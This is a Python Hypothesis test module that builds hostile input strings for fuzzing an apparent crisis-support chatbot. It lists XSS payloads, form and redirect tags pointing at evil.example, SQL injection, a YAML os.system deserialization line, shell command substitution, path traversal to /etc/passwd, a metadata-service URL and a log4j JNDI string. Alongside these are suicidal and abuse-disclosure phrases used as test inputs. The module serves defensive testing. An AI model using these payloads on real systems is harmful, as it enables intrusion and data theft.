"""Hostile text: what people type by mistake, paste without looking, and send on purpose. Every test that wants such text takes it from here."""

from __future__ import annotations

from hypothesis import strategies as st

# In every hostile text: it may come back only where a visitor's own words belong, and never in a log.
MARK = "zyxqmark"

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"'><svg/onload=alert(1)>", "</textarea><script>alert(1)</script>", "<!--", "-->", "]]>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "&lt;b&gt;", "&#60;b&#62;",
    "<a href=jAvAsCrIpT:alert(1)>x</a>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "</title><script>alert(1)</script>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>", "<style>*{display:none}</style>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`${alert(1)}`", "\u2028alert(1)\u2029", "<\u0000script>alert(1)</script>",
)  # fmt: skip
COMMANDS = (
    "/restart", "/session_start", "/own_thoughts", '/inform_country{"country": "FI"}', '/greet{"a": [', "/back", "EXTERNAL: x", "@step 1", "utter_greet",
    "action_restart", "inform_country:FI", "change_language:xx", "start_over", "' OR 1=1 --", "'; DROP TABLE totals; --", "\" UNION SELECT 1 --",
    "!!python/object/apply:os.system [id]", "!!binary aGVsbG8=", "&a [*a, *a]", "<<: *a", "{emergency}", "{0.__class__.__mro__}", "{{7*7}}", "{% raw %}", "%s%s%n",
    "%(name)s", "$(id)", "`id`", "| id", "../../etc/passwd", "file:///etc/passwd", "\\\\host\\share", "http://169.254.169.254/", "${jndi:ldap://x}", "\r\nSet-Cookie: a=b",
    "__proto__", "constructor", "null", "undefined", "NaN", "-1", "1e400", "0x7fffffff", "99999999999999999999", "²", "①", "٣", "௧", "½", "𝟙", "1" * 400, "true", "[]", "{}",
)  # fmt: skip
BROKEN = (
    "\x00", "\x1b[2J", "\x7f", "\x85", "\ud800", "\udfff", "\ud83d", "\ufffe", "\uffff", "\U0010ffff", "\ufeff", "\u200b", "\u200d", "\u2060", "\u00ad", "\u034f",
    "\u202e", "\u202d", "\u2066", "\u2069", "\u200f", "\u061c", "\u3164", "\u115f", "\U000e0041", "\ufe0f", "\u0345" * 40, "a" + "\u0300\u0327\u0345" * 60, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "ﷺ" * 8, "ß" * 50, "İ", "ı", "ǅ", "ﬁ", "Å", "\u1e9e", "가각힣", "ᄀ" * 30, "ก็็็็็็็", "ༀ" * 20, "مرحبا", "שלום", "привет", "ﻻ", "\n" * 20, "\t", "\r", "\x0b", "\u2028", " " * 50,
)  # fmt: skip
# What a visitor in need writes: the hostile parts stand beside it, and it must still be understood.
MEANT = (
    "i want to die", "haluan kuolla", "ich will sterben", "je veux mourir", "quiero morir", "chcę umrzeć", "хочу умереть", "jag vill dö", "ik wil dood", "quero morrer",
    "k m s", "s.u.i.c.i.d.e", "su1c1de", "I'm 15", "from Finland", "in deutsch bitte", "i cannot stop looking at images", "he touched my daughter", "yes", "no", "1", "thank you",
)  # fmt: skip
LETTERS = st.characters(exclude_categories=())
# Characters over which regular expressions stumble: long runs of what almost matches.
RUNS = st.builds(
    lambda piece, times: piece * times,
    st.sampled_from(("a", "a ", "a.", "0", "@$", "a'", "..", "?", "! ", "-", " - ", "(", "[", "|", "é", "1a", "\u0301")),
    st.integers(2, 400),
)


def text(parts: int = 5) -> st.SearchStrategy[str]:
    """Hostile text, MARK somewhere in it."""
    one = st.one_of(
        st.sampled_from(MARKUP), st.sampled_from(COMMANDS), st.sampled_from(BROKEN), st.sampled_from(MEANT), st.text(LETTERS, max_size=20), RUNS, st.just(" ")
    )  # fmt: skip
    return st.lists(one, max_size=parts).map(lambda found: MARK.join((" ".join(found[:2]), "".join(found[2:]))))


def long_text() -> st.SearchStrategy[str]:
    """Up to a megabyte of a hostile text, again and again."""
    return st.builds(lambda piece, size: (piece * (size // len(piece) + 1))[:size], text(3), st.sampled_from((1_000, 1_001, 20_000, 1_000_000)))


def json_value() -> st.SearchStrategy[object]:
    """Any JSON, with hostile texts in it."""
    plain = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), text(2))
    return st.recursive(plain, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3), max_leaves=6)


def mutated(original: bytes) -> st.SearchStrategy[bytes]:
    """A file that was cut off, or in which something was overwritten, doubled, or put in."""

    def spoil(place: float, length: int, kind: str, junk: str) -> bytes:
        start = int(place * len(original))
        piece = junk.encode("utf-8", "surrogatepass")
        if kind == "cut":
            return original[:start]
        if kind == "over":
            return original[:start] + piece + original[start + len(piece) :]
        if kind == "twice":
            return original[: start + length] + original[start:]
        if kind == "gone":
            return original[:start] + original[start + length :]
        return original[:start] + piece + original[start:]

    junk = st.one_of(
        text(1),
        st.sampled_from(("\n", ": ", "- ", "null", "[", "{", "!!python/name:os.system", "\t", "*a", "&a ", "1", "2026-13-45", '"', "'", "\x00", "no", "~")),
    )
    return st.builds(spoil, st.floats(0, 0.999), st.integers(1, 200), st.sampled_from(("cut", "over", "in", "twice", "gone")), junk)
